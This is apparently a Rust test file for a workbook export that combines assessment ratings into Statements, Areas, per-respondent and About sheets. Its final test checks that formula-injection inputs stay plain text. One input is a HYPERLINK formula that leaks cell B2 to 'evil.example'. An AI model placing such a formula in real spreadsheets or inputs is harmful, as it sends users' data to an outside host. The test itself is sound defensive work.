use calamine::Data;
use time::macros::datetime;

use super::{MADE, assert_no_formulas, cells, headings, number_format, sheet_names, text};
use crate::domain::assessment::{FrameworkRef, Rating, Rating::*};
use crate::domain::combine::{Group, Member, combine, combined_csv, with_label};
use crate::domain::framework::Framework;
use crate::domain::organisation::Organisation;
use crate::domain::tests::{NOW, small_framework};
use crate::office::combined_workbook::workbook;

fn member(source: &str, label: Option<&str>, ratings: &[(&str, Rating)]) -> Member {
    Member {
        assessment: source.into(),
        source: source.into(),
        label: label.map(String::from),
        organisation: Organisation { name: Some("Anytown".into()), ..Organisation::default() },
        framework: FrameworkRef { id: "small".into(), version: "1".into() },
        updated: NOW,
        ratings: ratings.iter().map(|(id, rating)| (id.to_string(), *rating)).collect(),
    }
}

fn group(members: Vec<Member>) -> Group {
    let mut group = Group::new("g1".into(), "Workshop".into(), datetime!(2026-11-01 9:00 UTC));
    group.add(members);
    group
}

fn two_respondents() -> Group {
    group(vec![
        member("x.json", None, &[("a1", Level(1)), ("a2", DontKnow), ("b1", Level(2))]),
        member("y.json", Some("ICT"), &[("a1", Level(3)), ("b1", NotApplicable)]),
    ])
}

/// A CSV cell as the workbook should hold it: a number as a number, a blank as nothing.
fn as_cell(csv: &str) -> Data {
    match csv.parse::<f64>() {
        Ok(number) => Data::Float(number),
        Err(_) if csv.is_empty() => Data::Empty,
        Err(_) => text(csv),
    }
}

/// The combined CSV's rows of one kind ("Statement" or "Area score"), without that first column.
fn csv_rows(framework: &Framework, group: &Group, kind: &str) -> Vec<Vec<String>> {
    let combined = combine(framework, &with_label(&group.members, None), &|_| None);
    let csv = combined_csv(&combined);
    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|record| record.unwrap().iter().map(String::from).collect::<Vec<_>>())
        .filter(|row| row[0] == kind)
        .map(|row| row[1..].to_vec())
        .collect()
}

#[test]
fn the_combined_workbook_holds_what_the_csv_does_as_numbers() {
    let framework = small_framework();
    let group = two_respondents();
    let bytes = workbook(&group, &framework, None, MADE).unwrap();
    assert_eq!(sheet_names(&bytes), ["Statements", "Areas", "Each respondent’s levels", "About"]);

    let statements = cells(&bytes, "Statements");
    assert_eq!(
        headings(&bytes, "Statements"),
        [
            "Area",
            "Statement ID",
            "Statement",
            "Respondents",
            "Median",
            "Lowest",
            "Highest",
            "Range",
            "Level 1 (One)",
            "Level 2 (Two)",
            "Level 3 (Three)",
            "Don't know",
            "Not applicable",
            "Not answered"
        ]
    );
    let expected: Vec<Vec<Data>> =
        csv_rows(&framework, &group, "Statement").iter().map(|row| row.iter().map(|c| as_cell(c)).collect()).collect();
    assert_eq!(statements[1..], expected);
    assert_eq!(statements[1][4], Data::Float(2.0), "a1's median, a number");
    assert_eq!(number_format(&bytes, "Statements", (1, 3)).as_deref(), Some("0"), "a count");

    // Areas' figures are averages, kept whole and shown to one decimal place.
    let areas = cells(&bytes, "Areas");
    let csv_areas = csv_rows(&framework, &group, "Area score");
    assert_eq!(areas.len(), 1 + csv_areas.len());
    for (row, csv) in areas[1..].iter().zip(&csv_areas) {
        assert_eq!(row[0], text(&csv[0]));
        for (cell, csv) in row[1..6].iter().zip(&csv[3..8]) {
            match (cell, as_cell(csv)) {
                (Data::Float(ours), Data::Float(theirs)) => assert!((ours - theirs).abs() < 0.005, "{ours} {theirs}"),
                (ours, theirs) => assert_eq!(*ours, theirs),
            }
        }
    }
    assert_eq!(number_format(&bytes, "Areas", (1, 2)).as_deref(), Some("0.0"));
}

#[test]
fn each_respondents_levels_are_a_row_per_respondent_and_statement() {
    let framework = small_framework();
    let bytes = workbook(&two_respondents(), &framework, None, MADE).unwrap();
    let levels = cells(&bytes, "Each respondent’s levels");
    assert_eq!(levels.len(), 1 + 2 * 3, "a heading, then two respondents × three statements");
    assert_eq!(
        headings(&bytes, "Each respondent’s levels"),
        [
            "Respondent",
            "Role or team",
            "Organisation",
            "Answers last changed",
            "Area",
            "Statement ID",
            "Statement",
            "Level",
            "Answer"
        ]
    );
    let row = |index: usize| {
        levels[index].iter().filter(|cell| !matches!(cell, Data::DateTime(_))).cloned().collect::<Vec<_>>()
    };
    assert_eq!(
        row(1),
        [
            text("x.json"),
            Data::Empty,
            text("Anytown"),
            text("Area A"),
            text("a1"),
            text("A one"),
            Data::Float(1.0),
            text("1: One")
        ]
    );
    assert_eq!(row(2)[6..], [Data::Empty, text("Don't know")]);
    assert_eq!(row(5)[..2], [text("y.json"), text("ICT")]);
    assert_eq!(row(5)[6..], [Data::Empty, text("Not answered")], "y did not answer a2");
    match &levels[1][3] {
        Data::DateTime(day) => {
            let (year, month, day, ..) = day.to_ymd_hms_milli();
            assert_eq!((year, month, day), (2026, 11, 23), "the day x last changed their answers");
        }
        other => panic!("a date, not {other:?}"),
    }
    assert_eq!(number_format(&bytes, "Each respondent’s levels", (1, 3)).as_deref(), Some("dd/mm/yyyy"));
}

#[test]
fn the_about_sheet_names_the_group_its_respondents_and_the_day() {
    let framework = small_framework();
    let everyone = cells(&workbook(&two_respondents(), &framework, None, MADE).unwrap(), "About");
    assert_eq!(everyone[0][0], text("About this workbook"));
    let fact = |rows: &[Vec<Data>], name: &str| {
        rows.iter().find(|row| row[0] == text(name)).map(|row| row[1].clone()).unwrap_or_else(|| panic!("{name}"))
    };
    assert_eq!(fact(&everyone, "Group"), text("Workshop"));
    assert_eq!(fact(&everyone, "Framework"), text("Small, version 1"));
    assert_eq!(fact(&everyone, "Respondents"), Data::Float(2.0));
    assert!(matches!(fact(&everyone, "Made on"), Data::DateTime(_)));
    assert!(everyone.iter().all(|row| row[0] != text("Role or team")), "not limited to a role or team");

    let ict = workbook(&two_respondents(), &framework, Some("ICT"), MADE).unwrap();
    let about = cells(&ict, "About");
    assert_eq!(fact(&about, "Respondents"), Data::Float(1.0));
    assert_eq!(fact(&about, "Role or team"), text("ICT"));
    assert_eq!(cells(&ict, "Each respondent’s levels").len(), 1 + 3, "only ICT's respondent");
}

#[test]
fn hostile_text_in_a_group_stays_text() {
    let mut framework = small_framework();
    framework.areas[0].statements[0].text = "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"A one\")".into();
    framework.scale.dont_know = "@SUM(A1)".into();
    let mut group = group(vec![member("<b>x</b>", Some("=1+1"), &[("a1", DontKnow)])]);
    group.name = "=1+1".into();
    let bytes = workbook(&group, &framework, None, MADE).unwrap();
    for sheet in sheet_names(&bytes) {
        assert_no_formulas(&bytes, &sheet);
    }
    let statements = cells(&bytes, "Statements");
    assert_eq!(statements[1][2], text("=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"A one\")"));
    assert_eq!(statements[0][11], text("@SUM(A1)"));
    let levels = cells(&bytes, "Each respondent’s levels");
    assert_eq!(levels[1][..2], [text("<b>x</b>"), text("=1+1")]);
    assert_eq!(levels[1][8], text("@SUM(A1)"));
    assert!(cells(&bytes, "About").iter().any(|row| row[1] == text("=1+1")));
}
